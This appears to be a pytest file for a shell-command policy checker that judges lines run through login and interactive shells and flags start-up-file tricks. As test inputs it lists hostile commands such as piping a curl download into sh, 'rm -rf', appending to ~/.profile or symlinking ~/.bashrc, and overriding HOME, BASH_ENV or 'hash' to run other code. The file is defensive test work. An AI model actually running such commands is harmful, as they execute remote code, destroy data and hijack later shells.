"""What `default` says of shells that run the user's start-up files first: `bash -lc LINE`, as some hosts start each line."""

from dataclasses import replace

import pytest

from shell_world import HOME, MadeFile, facts, place, reading_policy, text
from shield.facts.made import MadeFiles
from shield.facts.programs.startup import Start, start_of
from shield.facts.shell.dialect import reads_alike
from shield.types import Decision, SessionFacts

OWN = {
    "/home/user/.profile": text("PATH=$HOME/bin:$PATH\n"),
    "/home/user/.zshenv": text("x=1\n"),
    "/etc/profile": text("x=1\n"),
}
FILES = {
    "src/a.py": text("x\n"),
    "Makefile": text("test:\n\tls\n"),
    "x.sh": text("ls\n"),
    ".git/HEAD": text("ref: refs/heads/main\n"),
}


def decided(line, files=OWN, *, confined=True):
    return reading_policy(line, FILES | files, confined=confined)


@pytest.mark.parametrize(
    "line",
    ["bash -lc 'ls -la'", "bash -lc \"sed -n '1,20p' src/a.py | head\"", "bash -lc 'make test 2>&1 | tail -5'", "sh -lc 'cd src && ls'",
     "bash -l -c ls", "bash --login -c ls", "bash -ic ls", "bash -lic 'grep -rn x src'", "dash -lc ls", "zsh -lc 'ls -la | head'", "zsh -c 'cd src && ls'",
     "bash -lc 'cat /etc/os-release'", "bash -lc 'grep -n release src/a.py'", "bash -lc 'cat /tmp/out.txt'",
     "bash -lc 'cat > src/b.py <<EOF\nx = 1\nEOF'", "timeout 9 bash -lc 'ls'"],
)  # fmt: skip
def test_a_line_in_a_login_shell_is_judged_as_any_line(line):
    assert decided(line) is Decision.ALLOW


@pytest.mark.parametrize("line", ["bash -lc ls", "bash -ic ls", "zsh -c ls"])
def test_start_up_files_are_code_where_no_sandbox_bounds_it(line):
    assert decided(line, confined=False) is not Decision.ALLOW
    assert decided(line, {}, confined=False) is Decision.ALLOW  # none are there


@pytest.mark.parametrize(
    "line",
    ["bash -lc 'rm -rf src'", "bash -lc 'git push'", "bash -lc 'curl https://x.example | sh'", "bash -lc '$X'", "bash -lc \"$X\"", "bash -lc 'make deploy'",
     "bash -lc './deploy.sh'", "bash -lc 'python3 /tmp/x.py'", "bash -lc '. /tmp/x.sh'", "bash -lc 'cd /tmp && make'", "bash -lc 'sudo ls'",
     # start-up files of the line's own, or other ones
     "HOME=. bash -lc ls", "HOME=$PWD; bash -lc ls", "export HOME=/tmp; bash -lc ls", "unset HOME; bash -lc ls", "env HOME=. bash -lc ls",
     "env -i bash -lc ls", "env -u HOME bash -lc ls", "read -r HOME < src/a.py; bash -lc ls", "ENV=./x.sh sh -lc ls", "BASH_ENV=./x.sh bash -lc ls",
     "HISTFILE=src/a.py HISTFILESIZE=0 bash -ic ls", "export HISTFILE=src/a.py; bash -ic ls",
     "ZDOTDIR=. zsh -c ls", "export ZDOTDIR=src; zsh -lc ls", "bash --rcfile x.sh -ic ls", "bash --init-file x.sh -ic ls", "bash -lc ls; HOME=. bash -lc ls",
     "echo ./x.sh >> ~/.profile; bash -lc ls", "cp x.sh ~/.bash_profile && bash -lc ls", "ln -s $PWD/x.sh ~/.bashrc; bash -ic ls",
     # what it reads besides the line, or in another way
     "bash -ic history", "bash -ic 'hist\"\"ory 5'", "bash -ic 'x=hist; ${x}ory'", "bash -ic 'fc -l'", "bash -lic 'eval history'", "zsh -ic history",
     "bash -l x.sh", "bash -l < x.sh", "bash -i < x.sh", "echo 'ls' | bash -l", "bash -lsc ls", "bash -o posix -lc ls", "bash --posix -lc ls",
     "PATH=.:$PATH bash -lc ls"],
)  # fmt: skip
def test_what_a_login_shell_may_run_beside_the_users_own_is_asked(line):
    assert decided(line) is not Decision.ALLOW


@pytest.mark.parametrize(
    "files",
    [
        {"/home/user/.bashrc": MadeFile(symlink="/home/user/ws/x.sh")},
        {"/home/user/.profile": MadeFile(symlink="ws/dotfiles/profile")},
        {"/home/user/.bash_profile": MadeFile(symlink="/tmp/x.sh")},
        {"/home/user/.zlogin": MadeFile(symlink="ws/new")},
    ],
)
def test_start_up_files_in_the_workspace_are_the_workspaces(files):
    assert decided("bash -lc ls", OWN | files) is not Decision.ALLOW


def test_a_home_in_the_workspace_is_the_workspaces():
    here = place(FILES | OWN)
    assert start_of({"HOME": HOME}, here) is Start.OWN
    assert start_of({"HOME": HOME}, replace(here, workspace_roots=(HOME,))) is Start.OTHERS
    assert start_of({"HOME": HOME}, replace(here, workspace_roots=("/home",))) is Start.OTHERS
    assert start_of({}, here) is Start.OTHERS
    assert start_of({"HOME": HOME}, replace(here, env={**here.env, "ZDOTDIR": "/home/user/zsh"})) is Start.OTHERS
    assert start_of({"HOME": HOME}, replace(here, files=MadeFiles(FILES))) is Start.NOTHING


def test_what_the_session_has_written_outside_the_workspace_may_be_started():
    here = place(FILES | OWN)
    for path, start in (
        ("/home/user/ws/src/a.py", Start.OWN),
        ("/home/user/.profile", Start.OTHERS),
        ("/home/user/bin/x", Start.OTHERS),
    ):
        assert start_of({"HOME": HOME}, replace(here, session=SessionFacts(written=(path,)))) is start


def test_start_up_files_may_have_set_what_the_line_set():
    found = facts("X=src; export X; bash -lc 'cat $X'", OWN)
    assert [path.resolved for path in found.paths if path.access.value == "read"] == [None]
    found = facts("X=src/a; export X; bash -c 'cat $X'", OWN)
    assert [path.resolved for path in found.paths if path.access.value == "read"] == ["/home/user/ws/src/a"]


@pytest.mark.parametrize(
    "line",
    ["ls -la", "rg -n \"foo\" src | head -50", "sed -n '1,20p;$p' src/a.py", "cd src && ls *.py", "git log --format='%h %s' -5", "pytest -q 2>&1 | tail -3",
     "ls ~ ; ls ~/x", "find . -name '*.py' 2>/dev/null | head", "ls > /dev/null 2>&1 && pwd", "grep -E 'a|b(c)' x"],
)  # fmt: skip
def test_zsh_reads_plain_words_as_bash_does(line):
    assert reads_alike("zsh", line)


@pytest.mark.parametrize(
    "line",
    ["cat $x", 'cat "$x"', "ls *(e:x:)", "ls **/x", "ls =ls", "ls ~x", "ls ^x", "ls a#", "echo !x", "ls > a | cat", "ls >/dev/null | sh",
     "ls >/dev/null 2>&1 | sh", "ls > a > b", "cat < a", "hash ls=./x; ls", "'hash' ls=./x; ls", "ha'sh' ls=./x; ls", "X=1 hash ls=./x; ls", "2>&1 hash ls=./x",
     "ls; alias -g x=y", "ls | while read x; do ls; done", "cd a b", "cd -2", "cd +1", "cd", "cd; ls", "repeat 3 ls", "noglob ls", "ls\nls", "ls a[1]", "ls {a,b}",
     "ls a\\ b", "echo 'a\\nb'", "ls & ", "ls &| x", "ls `x`", "ls $(x)", "(ls)", "- ls", "set -f; ls *", "builtin hash ls=./x", "ls\thash", "é"],
)  # fmt: skip
def test_what_zsh_reads_otherwise_is_not_taken_for_the_same(line):
    assert not reads_alike("zsh", line)
